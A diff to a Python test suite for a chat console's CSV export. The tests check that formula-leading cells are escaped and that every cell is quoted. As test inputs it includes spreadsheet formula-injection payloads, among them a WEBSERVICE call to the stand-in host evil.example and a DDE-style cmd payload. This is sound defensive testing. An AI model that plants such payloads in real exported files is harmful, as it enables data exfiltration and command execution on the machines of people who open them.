@@ -70,14 +70,54 @@ def test_csv_one_row_per_message_redacted_and_formula_safe(engine, samples) -> N
     assert urgent[0]["flags"] == "urgent" and urgent[0]["intent"] == "report_urgent_symptom"
     assert any(r["text"] == "feedback: down" and r["flags"] == "thumbs_down" for r in rows)
     out = conversations_csv([])
-    assert out.splitlines()[0].startswith("conversation_id,time,sender,text,intent,confidence")
+    assert out.splitlines()[0].startswith('"conversation_id","time","sender","text","intent","confidence"')
 
 
-def test_csv_cells_cannot_start_a_formula() -> None:
+def _csv_of(texts: list[str], sender: str = "s") -> str:
     from tests.web.console.rasa_rows import user
     from web.console.conversations import Conversation
     from web.console.messages import build_messages
 
-    rows = [dict(user("s", '=HYPERLINK("http://x")', "greet"), id=1)]
-    text = conversations_csv([Conversation("s", build_messages(rows, 0.6))])
-    assert "'=HYPERLINK" in text
+    rows = [dict(user(sender, text, "greet"), id=n) for n, text in enumerate(texts, 1)]
+    return conversations_csv([Conversation(sender, build_messages(rows, 0.6))])
+
+
+def test_csv_cells_cannot_start_a_formula() -> None:
+    assert "'=HYPERLINK" in _csv_of(['=HYPERLINK("http://x")'])
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1-2", "'+1-2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # full-width =
+        ("\uff0b1", "'\uff0b1"),  # full-width +
+        ("\uff0d1", "'\uff0d1"),  # full-width -
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # full-width @
+        ('x;=WEBSERVICE("http://evil.example")', 'x;\'=WEBSERVICE("http://evil.example")'),
+        ("a,+cmd|' /C calc'!A0", "a,'+cmd|' /C calc'!A0"),
+        ("a|@x", "a|'@x"),
+        ("a\t-1", "a\t'-1"),
+        ("a;  =1", "a;  '=1"),
+        ("a; \uff1d1", "a; '\uff1d1"),
+        ("  =1", "'  =1"),
+        ("plain text, with-dashes; and = signs", "plain text, with-dashes; and = signs"),
+    ],
+)
+def test_csv_formula_starts_are_neutralised(text: str, cell: str) -> None:
+    rows = list(csv.DictReader(io.StringIO(_csv_of([text]))))
+    assert rows[0]["text"] == cell
+
+
+def test_csv_quotes_every_cell_and_neutralises_every_column() -> None:
+    out = _csv_of(["hello"], sender="-sender;=1")
+    for line in out.splitlines():
+        cells = next(csv.reader([line]))
+        assert line == ",".join('"' + c.replace('"', '""') + '"' for c in cells), line
+    row = next(csv.DictReader(io.StringIO(out)))
+    assert row["conversation_id"] == "'-sender;'=1"
